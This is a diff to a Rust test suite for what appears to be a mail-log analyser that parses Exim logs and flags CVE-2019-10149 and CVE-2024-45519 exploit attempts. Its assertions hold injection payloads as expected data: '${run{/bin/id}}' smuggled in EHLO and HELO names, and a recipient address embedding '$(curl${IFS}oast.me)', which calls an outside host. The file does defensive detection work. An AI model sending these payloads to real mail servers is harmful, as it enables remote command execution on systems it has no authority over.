@@ -35,7 +35,7 @@ fn every_line_is_read_and_header_blocks_belong_to_their_rejection() {
     // The header blocks are ignored lines of the rejectlog, not events.
     assert!(
         o.stderr
-            .contains("rejectlog: 33 lines, 4 events, 29 ignored, 0 unparsed, 0 other"),
+            .contains("rejectlog: 36 lines, 7 events, 29 ignored, 0 unparsed, 0 other"),
         "{}",
         o.stderr
     );
@@ -59,10 +59,10 @@ fn every_line_is_read_and_header_blocks_belong_to_their_rejection() {
     for file in ["mainlog", "rejectlog"] {
         let r: Vec<_> = of(file)
             .into_iter()
-            .filter(|e| e["kind"] == "reject")
+            .filter(|e| e["kind"] == "reject" && e["queue_id"].is_string())
             .collect();
         assert_eq!(r.len(), 2, "{file}: {r:#?}");
-        assert_eq!(r[0]["queue_id"], "1xaGhe-00000h-2Y");
+        assert_eq!(r[0]["queue_id"], "1xaIy4-00000h-0C");
         assert_eq!(r[0]["sender"], "billing@outside.example");
         assert_eq!(r[0]["src_ip"], "127.0.0.1");
         assert_eq!(r[1]["sender"], "spoof@outside.example");
@@ -72,14 +72,28 @@ fn every_line_is_read_and_header_blocks_belong_to_their_rejection() {
         r[0]["detail"]
             .as_str()
             .unwrap()
-            .ends_with("; From: billing@outside.example; Subject: Invoice 2231 overdue; Message-Id: <20261206181114.000042@mx>"),
+            .ends_with("; From: billing@outside.example; Subject: Invoice 2231 overdue; Message-Id: <20261206203620.000042@mx>"),
         "{}",
         r[0]
     );
     assert_eq!(r[1]["source"]["line"], 17);
-    // The CVE-2019-10149 probe: an unknown recipient, nothing more.
+    // The CVE-2019-10149 probe: an unknown recipient, nothing more; the expansion as the
+    // HELO name: a refused EHLO and HELO, the argument quoted.
     assert_eq!(r[3]["kind"], "recipient_unknown");
     assert!(r[3]["recipient"].as_str().unwrap().starts_with("${run{"));
+    for (e, verb) in [(&r[4], "EHLO"), (&r[5], "HELO")] {
+        assert_eq!(e["kind"], "reject");
+        assert_eq!(e["src_ip"], "127.0.0.1");
+        assert!(e["detail"]
+            .as_str()
+            .unwrap()
+            .starts_with(&format!("rejected {verb} from")));
+        assert!(e["detail"].as_str().unwrap().ends_with("${run{/bin/id}}"));
+    }
+    assert_eq!(
+        r[6]["recipient"],
+        "\"aabbb$(curl${IFS}oast.me)\"@lab.example"
+    );
     // The paniclog: service events, the configuration error with its second line.
     let p = of("paniclog");
     assert!(p
@@ -102,17 +116,24 @@ fn the_rejectlog_matches_its_mainlog() {
         "{}",
         o.stdout
     );
-    // The CVE-2019-10149 probe Exim 4.96 refused: one attempt, from the mainlog only (the
-    // rejectlog's copy of the line is not counted twice).
+    // The CVE-2019-10149 probes Exim 4.96 refused (the recipient, and the EHLO and HELO that
+    // carried the expansion): one attempt, from the mainlog only (the rejectlog's copies of
+    // the lines are not counted twice); the CVE-2024-45519 recipient: another.
     let exploit: Vec<serde_json::Value> = o
         .stdout
         .lines()
         .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
         .filter(|f| f["rule"] == "exploit.smtp_injection")
         .collect();
-    assert_eq!(exploit.len(), 1, "{}", o.stdout);
-    assert_eq!(exploit[0]["count"], 1);
+    assert_eq!(exploit.len(), 2, "{}", o.stdout);
+    assert_eq!(exploit[0]["count"], 3);
     assert!(exploit[0]["title"]
         .as_str()
         .is_some_and(|t| t.starts_with("CVE-2019-10149 (Exim) exploit attempt from")));
+    assert_eq!(exploit[1]["count"], 1);
+    assert!(
+        exploit[1]["title"].as_str().is_some_and(
+            |t| t.starts_with("CVE-2024-45519 (Zimbra postjournal) exploit attempt from")
+        )
+    );
 }
